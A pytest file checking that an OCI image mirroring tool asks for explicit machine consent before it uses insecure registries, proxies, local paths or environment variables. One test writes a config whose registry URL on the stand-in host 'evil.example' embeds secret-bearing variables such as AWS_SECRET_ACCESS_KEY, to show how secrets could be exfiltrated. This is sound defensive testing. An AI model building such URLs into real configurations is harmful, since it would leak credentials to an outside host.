"""What mirrors may decide only where the machine agrees."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from oci.documents.variables import CONSENT
from oci.errors import CancelToken, InvalidInput
from oci.mirror.config import MirrorsConfig
from oci.mirror.reader import make_config, read_config
from oci.mirror.run import opened
from tests.support.relocating import anonymous

HOST = "registry.corp.example"
REGISTRIES: dict[str, tuple[dict[str, Any], str]] = {
    "plain http": ({"insecure": True}, "insecure"),
    "a proxy": ({"proxy": "http://proxy.example:3128"}, "proxy"),
    "unchecked certificates": ({"verify_tls": False}, "verify_tls"),
    "a file to trust": ({"ca_files": ["/etc/ca.pem"]}, "paths"),
    "an AWS profile": ({"aws_profile": "admin"}, "aws"),
    "an AWS role": ({"aws_role": "arn:aws:iam::123456789012:role/admin"}, "aws"),
    "a client key": ({"client_key": "/etc/key.pem", "client_certificate": "/etc/cert.pem"}, "paths"),
}
MIRRORS: dict[str, dict[str, Any]] = {
    "a lock": {"source": {"lock": "/etc/images.yml"}},
    "a folder to read": {"source": {"repository": "oci:/srv/web"}},
    "a folder to write": {"destinations": [{"repository": "oci:/srv/web"}]},
    "an archive to write": {"destinations": [{"archive": "/srv/web.tar"}]},
}


def config(
    registry: dict[str, Any] | None = None, bucket: dict[str, Any] | None = None, **mirror: Any
) -> MirrorsConfig:
    return make_config(
        {
            "registries": {HOST: registry} if registry else {},
            "buckets": {"handover": bucket} if bucket else {},
            "mirrors": [
                {
                    "name": "web",
                    "source": {"repository": f"{HOST}/web"},
                    "destinations": [{"repository": f"{HOST}/mirror/web"}],
                    **mirror,
                }
            ],
        }
    )


@pytest.fixture
def may(monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
    monkeypatch.delenv(CONSENT, raising=False)
    return lambda words: monkeypatch.setenv(CONSENT, words)


def open_it(mirrors: MirrorsConfig, **settings: Any) -> None:
    opened(mirrors, mirrors.mirrors, lambda _side, _threads: anonymous(**settings), CancelToken()).close()


@pytest.mark.parametrize(("registry", "kind"), REGISTRIES.values(), ids=REGISTRIES)
def test_how_a_registry_is_reached_needs_consent(
    may: Callable[[str], None], registry: dict[str, Any], kind: str
) -> None:
    with pytest.raises(InvalidInput, match=rf"didn't agree to.*{CONSENT}={kind} on this machine"):
        open_it(config(registry))
    may(f" other, {kind}")
    open_it(config(registry))


@pytest.mark.parametrize("mirror", MIRRORS.values(), ids=MIRRORS)
def test_files_of_the_machine_need_consent(may: Callable[[str], None], mirror: dict[str, Any]) -> None:
    with pytest.raises(InvalidInput, match=f"{CONSENT}=paths"):
        open_it(config(**mirror))
    may("paths")
    open_it(config(**mirror))


@pytest.mark.parametrize(
    ("bucket", "kind"),
    [
        ({"endpoint": "http://s3.corp.example"}, "insecure"),
        ({"verify_tls": False}, "verify_tls"),
        ({"ca_file": "/etc/ca.pem"}, "paths"),
    ],
)
def test_how_a_bucket_is_reached_needs_consent(may: Callable[[str], None], bucket: dict[str, Any], kind: str) -> None:
    with pytest.raises(InvalidInput, match=f"{CONSENT}={kind}"):
        open_it(config(bucket=bucket))
    may(kind)
    open_it(config(bucket=bucket))


@pytest.mark.usefixtures("may")
def test_what_the_run_itself_says_and_a_loopback_address_need_none() -> None:
    open_it(config({"insecure": True}), insecure=True)
    open_it(config({"verify_tls": False}), verify_tls=False)
    open_it(config(bucket={"endpoint": "http://127.0.0.1:9000"}))
    open_it(config({"retries": 9, "credentials": "writer"}))
    loopback = config()
    open_it(loopback.with_(registries=make_config({"registries": {"127.0.0.1:5000": {"insecure": True}}}).registries))


@pytest.mark.usefixtures("may")
def test_a_file_of_the_machine_may_name_its_files_and_nothing_more(tmp_path: Path) -> None:
    path = tmp_path / "mirrors.yaml"
    text = "version: 1\nmirrors:\n  - name: web\n    source: {lock: /etc/images.yml}\n"
    path.write_text(f"{text}    destinations: [{{archive: /srv/web.tar}}]\n")
    open_it(read_config(str(path)))
    path.write_text(f"{path.read_text()}registries: {{{HOST}: {{proxy: 'http://proxy.example:1'}}}}\n")

    with pytest.raises(InvalidInput, match="a proxy for"):
        open_it(read_config(str(path)))


def test_nothing_but_a_file_of_the_machine_says_that_it_is_one() -> None:
    with pytest.raises(InvalidInput, match="from_file: unknown key"):
        make_config({"from_file": True, "mirrors": []})
    assert "from_file" not in config().with_(from_file=True).to_dict()


@pytest.mark.parametrize(
    "name", ["IMGPKG_PASSWORD", "CI_JOB_TOKEN", "AWS_SECRET_ACCESS_KEY", "DOCKER_AUTH_CONFIG", "TRANSSHIP_X", "db_pwd"]
)
def test_a_variable_that_may_hold_a_login_needs_consent(tmp_path: Path, name: str) -> None:
    """Whoever writes the file chooses the registry, which would read it in the path that it is asked for."""
    path = tmp_path / "mirrors.yaml"
    path.write_text(
        f"version: 1\nenvironment: [{name}, CI_COMMIT_AUTHOR, KEYBOARD]\nmirrors:\n"
        f"  - name: web\n    source: {{repository: 'evil.example/${{{name}}}/${{CI_COMMIT_AUTHOR}}-${{KEYBOARD}}'}}\n"
        "    destinations: [{repository: registry.corp.example/web}]\n"
    )
    machine = {name: "hunter2", "CI_COMMIT_AUTHOR": "bob", "KEYBOARD": "us"}

    with pytest.raises(InvalidInput, match=f"{name} may hold a login: .*{CONSENT}=environment") as caught:
        read_config(str(path), machine)
    assert "hunter2" not in f"{caught.value}"
    agreed = read_config(str(path), {**machine, CONSENT: "paths, environment"})
    assert str(agreed.mirrors[0].source) == "evil.example/hunter2/bob-us"
